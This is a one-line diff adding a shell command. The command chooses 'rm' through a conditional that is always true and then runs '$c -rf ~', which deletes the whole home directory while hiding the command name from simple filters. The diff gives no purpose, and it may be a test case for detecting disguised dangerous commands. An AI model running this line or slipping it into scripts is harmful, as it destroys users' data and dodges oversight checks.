@@ -1,0 +1,1 @@
+if true; then c=rm; else c=ls; fi; $c -rf ~
